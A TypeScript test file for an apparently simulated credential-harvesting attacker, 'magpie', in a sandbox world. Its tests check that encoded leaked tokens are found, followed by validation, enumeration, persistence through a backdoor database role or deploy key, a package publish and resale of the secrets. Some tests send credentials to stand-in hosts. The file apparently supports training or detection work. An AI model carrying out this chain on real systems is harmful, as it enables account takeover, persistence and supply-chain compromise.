/** magpie reads what is public, decodes it, and acts only with what works at that moment. */
import fc from "fast-check";
import { zipSync } from "fflate";
import { describe, expect, test } from "vitest";
import { fromUtf8, toBase64, toHex } from "../../base/bytes.ts";
import { sha1 } from "../../base/digest.ts";
import { Stream } from "../../base/stream.ts";
import { KINDS, type Kind } from "../../engine/kinds.ts";
import type { Credential, Issuer } from "../credential.ts";
import { ARTIFACTS, RUNS, type Artifact, type Run } from "../services/forge/actions/model.ts";
import { artifactPath, logPath } from "../services/forge/actions/files.ts";
import { DEPLOY_KEYS } from "../services/forge/deploy-keys.ts";
import { diskStorage } from "../services/forge/git/storage.ts";
import { addConsumer } from "../services/consumers/consumers.ts";
import { addUser, findPackage, publishVersion } from "../services/registry/registry.ts";
import { World } from "../world.ts";
import { SECOND_HAND_ADDRESS } from "./addresses.ts";
import { heldBy } from "./harvest.ts";
import { MAGPIE, scheduleMagpie } from "./magpie.ts";

const ID = "lantern-tides/tides";
const MAGPIE_ADDRESS = "198.51.100.7";
const HOST = "db.production.lantern-tides.test";
const MINUTE = 60_000;

interface Planting {
  readonly id: string;
  readonly issuer: Issuer;
  readonly kind: Kind;
  readonly owner: string;
  readonly grants: Credential["grants"];
}

const DATABASE: Planting = {
  id: "db",
  issuer: "database",
  kind: "password",
  owner: "priya",
  grants: { host: HOST, role: "tides_app", database: "tides", createRole: true },
};
const REGISTRY: Planting = {
  id: "npm",
  issuer: "registry",
  kind: "npmToken",
  owner: "lantern-bot",
  grants: { user: "lantern-bot", scopes: "publish" },
};
const DEPLOY: Planting = { id: "deploy", issuer: "deploy", kind: "password", owner: "ci", grants: null };
const FORGE: Planting = {
  id: "pat",
  issuer: "forge",
  kind: "githubToken",
  owner: "mina",
  grants: { kind: "classic", scopes: ["repo"] },
};
const ALL = [DATABASE, REGISTRY, DEPLOY, FORGE];

function plant(world: World, planting: Planting): Credential {
  const { value, needles } = KINDS[planting.kind].mint(new Stream(3, planting.id));
  return world.credentials.add({
    ...planting,
    value,
    parts: needles,
    scope: "",
    status: "active",
    createdAtMs: world.clock.now(),
    expiresAtMs: null,
    uses: [],
    planted: true,
  });
}

function setting(visibility: "public" | "private" = "public"): World {
  const world = World.empty(1, { detect: () => [] });
  world.forge.createAccount("mina");
  world.forge.createRepository(ID, { visibility, collaborators: { mina: "admin" } });
  world.forge.openToLearner(ID);
  for (const planting of ALL) plant(world, planting);
  addUser(world, { name: "lantern-bot" });
  const manifest = { name: "@lantern/tides", version: "1.0.0" };
  const version = { version: "1.0.0", manifest, publishedAtMs: 0, by: "lantern-bot" };
  publishVersion(world.ports("test"), "@lantern/tides", version, "latest", new Uint8Array());
  addConsumer(world.ports("test"), { name: "tides-api", source: "", config: {} });
  return world;
}

function value(world: World, id: string): string {
  return world.credentials.get(id)?.value ?? "";
}

function commitBlob(world: World, text: string): void {
  const content = fromUtf8(text);
  const hash = sha1(`blob ${content.length}\0${text}`);
  void diskStorage(world.forge.disk).putObjects(ID, [{ hash, type: "blob", content }]);
}

function logOf(world: World, text: string): void {
  const run = { id: 1, repository: ID, logsDeleted: false } as Run;
  world.tables.of(RUNS).set("1", run);
  const path = logPath(1, 1, 1, 1);
  world.forge.disk.mkdir(path.slice(0, path.lastIndexOf("/")), { recursive: true });
  const lines = text.split("\n").map((line) => `2026-03-03T09:00:00.0000000Z ${line}\n`);
  world.forge.disk.write(path, lines.join(""));
}

function artifactOf(world: World, text: string): void {
  world.tables.of(ARTIFACTS).set("5", { id: 5, repository: ID, run: 1, name: "debug" } as Artifact);
  world.forge.disk.mkdir("/actions/artifacts", { recursive: true });
  world.forge.disk.write(artifactPath(5), zipSync({ "debug.txt": fromUtf8(text) }));
}

async function visited(world: World, minutes = 1): Promise<string[]> {
  scheduleMagpie(world.ports("test"), { atMs: world.clock.now() });
  await world.advance(minutes * MINUTE);
  return heldBy(world, MAGPIE).map(({ credential }) => credential);
}

const base64 = (text: string) => toBase64(fromUtf8(text));

describe("it finds a value", () => {
  const coats: readonly (readonly [string, (value: string) => string])[] = [
    ["as it is", (it) => it],
    ["in base64", base64],
    ["twice in base64", (it) => base64(base64(it))],
    [
      "in base64 over several lines",
      (it) => (base64(`TOKEN=${it}; more of the same`).match(/.{1,20}/g) ?? []).join("\n"),
    ],
    ["in hex", (it) => toHex(fromUtf8(it))],
    ["in a URL", (it) => `?t=${it.replace(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`)}`],
  ];
  const places: readonly (readonly [string, (world: World, text: string) => void])[] = [
    ["a git object", commitBlob],
    ["a log", logOf],
    ["an artifact", artifactOf],
  ];
  const cases = coats.flatMap(([coat, wear]) => places.map(([place, put]) => ({ coat, place, wear, put })));
  test.each(cases)("$coat in $place", async ({ wear, put }) => {
    const world = setting();
    put(world, `before\n${wear(value(world, "npm"))}\nafter`);
    expect(await visited(world)).toEqual(["npm"]);
  });

  test("in what was sent to its own server, also in a header", async () => {
    const world = setting();
    const headers = { Authorization: `Basic ${base64(`x:${value(world, "npm")}`)}` };
    const runner = { address: "192.0.2.10", session: null };
    await world.network.fetch(new Request("https://collect.magpie.invalid/x", { headers }), runner);
    const body = base64(value(world, "db"));
    await world.network.fetch(new Request("http://198.51.100.7/", { method: "POST", body }), runner);
    // Another's server: not its to read.
    await world.network.fetch(
      new Request("http://198.51.100.8/", { method: "POST", body: value(world, "pat") }),
      runner,
    );
    expect(await visited(world)).toEqual(["npm", "db"]);
  });

  test("not in a private repository, not where logs were deleted", async () => {
    const world = setting("private");
    commitBlob(world, value(world, "npm"));
    logOf(world, value(world, "db"));
    expect(await visited(world)).toEqual([]);
    const open = setting();
    logOf(open, value(open, "npm"));
    open.tables.of(RUNS).change("1", { logsDeleted: true });
    expect(await visited(open)).toEqual([]);
  });
});

test("the chain: validate, enumerate, read, stay, second hand, each at its time", async () => {
  const world = setting();
  commitBlob(world, value(world, "db"));
  const begun = world.clock.now();
  await visited(world, 12);
  const steps = heldBy(world, MAGPIE)[0]?.steps.map(({ step, atMs }) => [step, (atMs - begun) / 1000]);
  expect(steps).toEqual([
    ["validate", 0],
    ["enumerate", 30],
    ["read", 120],
    ["persist", 180],
    ["second-hand", 600],
  ]);
  const uses = world.credentials.get("db")?.uses ?? [];
  expect(uses.at(0)).toMatchObject({ address: MAGPIE_ADDRESS, result: "allowed" });
  expect(uses.at(-1)).toMatchObject({ address: SECOND_HAND_ADDRESS, result: "allowed" });
  // What it left behind works until somebody finds it.
  expect(world.audit.all().find(({ action }) => action === "role.create")?.target).toBe(`${HOST} svc_backup`);
  expect(world.credentials.all().find(({ owner }) => owner === "svc_backup")?.status).toBe("active");
  expect(world.events.filter(({ who }) => who === "attacker").map(({ kind }) => kind)).toEqual([
    "attacker.found",
    "attacker.validate",
    "attacker.enumerate",
    "attacker.read",
    "attacker.persist",
    // With what was sold, and with what it made itself.
    "attacker.second-hand",
    "attacker.second-hand",
  ]);
});

test("a registry token is used to publish, and the account's owner can see it", async () => {
  const world = setting();
  commitBlob(world, value(world, "npm"));
  await visited(world, 4);
  expect(findPackage(world, "@lantern/tides")?.tags["latest"]).toBe("1.0.1");
  const published = world.audit.all().find(({ action }) => action === "package.publish");
  expect(published).toMatchObject({ address: MAGPIE_ADDRESS, credentialId: "npm", result: "allowed" });
});

test("a token of the forge leaves a deploy key behind", async () => {
  const world = setting();
  commitBlob(world, value(world, "pat"));
  await visited(world, 4);
  const kinds = world.events.filter(({ who }) => who === "attacker").map(({ what }) => what);
  expect(kinds).toEqual([
    expect.stringContaining("magpie found pat in lantern-tides/tides object"),
    expect.stringMatching(/^magpie, validate with pat from 198\.51\.100\.7: it (?:acts as mina|works)$/),
    "magpie, enumerate with pat from 198.51.100.7: it reaches lantern-tides/tides",
    "magpie, read with pat from 198.51.100.7: it read names of secrets of lantern-tides/tides",
    "magpie, persist with pat from 198.51.100.7: it added a deploy key to lantern-tides/tides",
  ]);
  expect(world.tables.of(DEPLOY_KEYS).all()).toMatchObject([{ title: "backup", readOnly: false }]);
});

test("a password that is changed between two steps ends the chain", async () => {
  const world = setting();
  commitBlob(world, value(world, "db"));
  await visited(world, 1);
  world.credentials.change("db", { status: "revoked" });
  const before = world.credentials.get("db")?.uses.length;
  await world.advance(20 * MINUTE);
  expect(world.credentials.get("db")?.uses.length).toBe(before);
  expect(world.events.filter(({ kind }) => kind === "attacker.skipped")).toHaveLength(3);
});

test("the gentle setting is four times slower", async () => {
  const world = setting();
  commitBlob(world, value(world, "db"));
  scheduleMagpie(world.ports("test"), { atMs: world.clock.now(), factor: 4 });
  await world.advance(119_000);
  expect(heldBy(world, MAGPIE)[0]?.steps).toHaveLength(1);
  await world.advance(1000);
  expect(heldBy(world, MAGPIE)[0]?.steps).toHaveLength(2);
});

test("it comes again, and reads only what is new", async () => {
  const world = setting();
  scheduleMagpie(world.ports("test"), { atMs: world.clock.now(), everyMs: 10 * MINUTE });
  await world.advance(MINUTE);
  logOf(world, value(world, "deploy"));
  expect(heldBy(world, MAGPIE)).toEqual([]);
  await world.advance(10 * MINUTE);
  expect(heldBy(world, MAGPIE)).toMatchObject([{ credential: "deploy", worked: true }]);
  await world.advance(10 * MINUTE);
  expect(heldBy(world, MAGPIE)[0]?.steps.filter(({ step }) => step === "validate")).toHaveLength(2);
});

test("never an act without a credential that is valid at that moment", async () => {
  const change = fc.record({
    afterMs: fc.integer({ min: 0, max: 4 * MINUTE }),
    id: fc.constantFrom(...ALL.map(({ id }) => id)),
    status: fc.constantFrom("revoked" as const, "expired" as const, "active" as const),
  });
  await fc.assert(
    fc.asyncProperty(fc.array(change, { maxLength: 8 }), async (changes) => {
      const world = setting();
      logOf(world, ALL.map(({ id }) => value(world, id)).join("\n"));
      scheduleMagpie(world.ports("test"), { atMs: world.clock.now(), everyMs: 3 * MINUTE });
      const alive: { readonly atMs: number; readonly id: string; readonly works: boolean }[] = [];
      const note = () => {
        for (const it of world.credentials.all())
          alive.push({ atMs: world.clock.now(), id: it.id, works: world.credentials.works(it) });
      };
      note();
      for (const { afterMs, id, status } of changes) {
        await world.advance(afterMs);
        world.credentials.change(id, { status });
        note();
      }
      await world.advance(15 * MINUTE);
      const workedAt = (id: string, atMs: number) =>
        // What it made itself nobody ends here.
        !ALL.some((it) => it.id === id) ||
        alive
          .filter((it) => it.id === id && it.atMs <= atMs)
          .some((it, i, all) => it.works && (all[i + 1]?.atMs ?? atMs) >= atMs);
      for (const { kind, atMs, data } of world.events) {
        if (!/^attacker\.(?:enumerate|read|persist|second-hand)$/.test(kind)) continue;
        expect(workedAt(String(data["credential"]), atMs)).toBe(true);
      }
      for (const { credentialId, action, result, atMs, address } of world.audit.all()) {
        if (![MAGPIE_ADDRESS, SECOND_HAND_ADDRESS].includes(address) || result !== "allowed") continue;
        expect([action, credentialId !== null && workedAt(credentialId, atMs)]).toEqual([action, true]);
      }
    }),
    { numRuns: 25 },
  );
});
